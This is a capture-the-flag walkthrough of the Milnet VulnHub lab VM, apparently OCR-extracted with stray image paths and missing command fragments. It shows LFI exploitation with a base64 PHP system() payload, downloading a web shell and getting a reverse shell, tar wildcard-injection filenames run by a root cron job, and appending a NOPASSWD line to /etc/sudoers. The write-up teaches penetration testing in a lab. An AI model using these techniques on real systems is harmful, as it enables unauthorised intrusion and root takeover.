Milnet: 1 - Walkthrough

Hi everyone, finally I decided to write some of articls that releated to IT security, so I started with Milnet VM. First, starting with scanning the network to identify the VM's ip address

scanning the network

arp-scan tool

Since it's a local network, the fastest way to scan the network is using the arp technique. Therefore, as shown it's the only machine on this network :D. Next, nmap's time to check what services this machine provides.

  aS3r   >> sudo nmap -sS -n -v -f -T4 -sV -p-
Warning: Packet fragmentation selected on a host other than Linux, OpenBSD, FreeBSD, or NetBSD.  This may or may not work.

Starting Nmap 7.12 ( ) at 2016-06-02 23:22 PDT
NSE: Loaded 36 scripts for scanning.
Initiating ARP Ping Scan at 23:22
Scanning [1 port]
Completed ARP Ping Scan at 23:22, 0.01s elapsed (1 total hosts)
Initiating SYN Stealth Scan at 23:22
Scanning [65535 ports]
Discovered open port 22/tcp on
Discovered open port 80/tcp on
CompletedSYN Stealth Scan at 23:22, 19.77s elapsed (65535 total ports)
Initiating Service scan at 23:22
Scanning 2 services on
Completed Service scan at 23:22, 6.10s elapsed (2 services on 1 host)
NSE: Script scanning
Initiating NSE at 23:22
Completed NSE at 23:22, 0.39s elapsed
Initiating NSE at 23:22
Completed NSE at 23:22, 0.00s elapsed
Nmap scan report for
Host is up (0.0040s latency).
Not shown: 65533 closed ports
22/tcp open  ssh     OpenSSH 7.2p2 Ubuntu 4 (Ubuntu Linux; protocol 2.0)
80/tcp open  http    lighttpd 1.4.35
MAC Address: 1A:4A:94:42:CF:32 (Unknown)
Service Info: OS: Linux; CPE: cpe:/o:linux:linux_kernel

Read data files from: /usr/local/bin/../share/nmap
Service detection performed. Please report any incorrect results at .
Nmap done: 1 IP address (1 host up) scanned in 28.88 seconds
Raw packets sent: 65539 (2.884MB) | Rcvd: 65536 (2.621MB)

Brute Force Result!

It looks that we are going to need some of the web application skills :D. The web site is really simple and no much information has.

brute force directories is my favorate. Many tools could do this task, such as wfuzz, dirb, and dirbuster, for this one, I have used dirb on Kali linux, and I have the following:info.php shows much information about the php and its environment and the useful information that I could get is the following:

allow_url_fopen     On
allow_url_include   On
$_SERVER['DOCUMENT_ROOT']   /var/www/html
$_SERVER['SCRIPT_FILENAME'] /var/www/html/info.php


  aS3r   >> curl -x

during the examination, I have noticed that the index page sends a post request to content.php with route parameter route=main! Since I know there is a info.php file on the same directory, I have tried to put route=info!!! Surprisingly, I have the same page as the info.php. Therefore, here we have include function with .php at the end!

To confirm that is a LFI vulnerabilty. I have tried the following since I know the full path of the web server


And bingo! we have LFI without any filter, but we still require to get off the .php!!!For this one, I have spend some time trying some of bypass LFI techinques, and the only onethat works with me is:


Using LFI, I was able to perform remote command injection using the base64 form of the following php code:

<?php system('ls'); ?>

Reverse Shell

Therefore, I was able to wget my shell. The following picture shows that I have successfully downloaded the cmd.php file:

And here accessing the cmd.php

I have successfully received a reverse shell on port 5555 using b374k shell features.

Tar command execution!

During the anlysis of the server, I have noticed that /etc/crontab is readable! It looks that does a backup of the web directory every one minute:

# /etc/crontab: system-wide crontab
# Unlike any other crontab you don't have to run the `crontab'
# command to install the new version when you edit this file
# and files in /etc/cron.d. These files also have username fields,
# that none of the other crontabs do.


# m h dom mon dow user  command
*/1 *   * * *   root    /backup/
17 *    * * *   root    cd / && run-parts --report /etc/cron.hourly
25 6    * * *   root    test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )
47 6    * * 7   root    test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.weekly )
52 6    1 * *   root    test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.monthly )

Checking /backup/ file, and It has a root privillege!!! this is good. Checking the content!cd /var/www/html
tar cf /backup/backup.tgz *

During the examination of server, I have found many txt files at /home/langman/SDINET and one of them gets my attention which is DefenseCode_Unix_WildCards_Gone_Wild.txt. It has a section about how to get a command execution using tar command!!!! Bingooo :))

Since has root privilleges, we can take advantage of getting remote execution.

We require to create 3 files on the same directory that tar creates a backup from, which is in this case is /var/www/html/as the following:

1. "--checkpoint=1"
2. "--checkpoint-action=exec=sh"
3. - that has commands!
www-data@seckenheim:/var/www/html$ ls -la
total 228
drwxr-xr-x 2 www-data www-data  4096 Jun  3 08:12 .
drwxr-xr-x 3 root     root      4096 May 21 15:50 ..
-rw-r--r-- 1 root     root     73450 Aug  6  2015 bomb.jpg
-rw-r--r-- 1 root     root      3901 May 21 18:56 bomb.php
-rw-r--r-- 1 www-data www-data 99552 Mar 19  2014 cmd.php
-rw-r--r-- 1 root     root       124 May 21 17:50 content.php
-rw-r--r-- 1 root     root       145 May 21 17:17 index.php
-rw-r--r-- 1 www-data www-data    20 May 21 15:54 info.php
-rw-r--r-- 1 root     root       109 May 21 18:53 main.php
-rw-r--r-- 1 root     root     18260 Jan 22  2012 mj.jpg
-rw-r--r-- 1 root     root       532 May 21 23:33 nav.php
-rw-r--r-- 1 root     root       253 May 22 21:07 props.php
www-data@seckenheim:/var/www/html$ echo "" >; chmod +x
www-data@seckenheim:/var/www/html$ echo "" > "--checkpoint-action=exec=sh"
www-data@seckenheim:/var/www/html$ echo "" > --checkpoint=1

Getting root Privilleges!

Everything is set, now we need to put commands that help us to execute with root privilleges!, but first I want to check if everything is correct, so I have inserted the following id > /tmp/id.txt into!, and after one minute!!!!!!

ww-data@seckenheim:/var/www/html$ echo "id > /tmp/id.txt" >>
www-data@seckenheim:/var/www/html$ cat

id > /tmp/id.txt
www-data@seckenheim:/var/www/html$ ls -l /tmp
total 4
drwx--- 3 root root 4096 Jun  3 08:26 systemd-private-7060a45ca3a74b00b3de2e03b690a5a5-systemd-timesyncd.service-qdQWyT
www-data@seckenheim:/var/www/html$ ls -la /tmp
total 36
drwxrwxrwt  8 root root 4096 Jun  3 09:05 .
drwxr-xr-x 24 root root 4096 May 21 20:14 ..
drwxrwxrwt  2 root root 4096 Jun  3 08:26 .ICE-unix
drwxrwxrwt  2 root root 4096 Jun  3 08:26 .Test-unix
drwxrwxrwt  2 root root 4096 Jun  3 08:26 .X11-unix
drwxrwxrwt  2 root root 4096 Jun  3 08:26 .XIM-unix
drwxrwxrwt  2 root root 4096 Jun  3 08:26 .font-unix
-rw-r--r--  1 root root   39 Jun  3 09:05 id.txt
drwx---  3 root root 4096 Jun  3 08:26 systemd-private-7060a45ca3a74b00b3de2e03b690a5a5-systemd-timesyncd.service-qdQWyT
www-data@seckenheim:/var/www/html$ cat /tmp/id.txt
uid=0(root) gid=0(root) groups=0(root)

Finally, I have added a www-data user to /etc/sudoersto get access to the root user! I am sure others will have different way to do this!

echo "www-data  ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers

into file. And after one minute!!www-data@seckenheim:/var/www/html$ sudo su
sudo suroot@seckenheim:/var/www/html# id
uid=0(root)gid=0(root) groups=0(root)
root@seckenheim:/var/www/html# ls -l /root
total 4
-rw-r--r-- 1 root root 1727 May 21 22:42 credits.txt

Finally, I would like to thank @teh_warriar and #vulnhub for the VM. It was fun.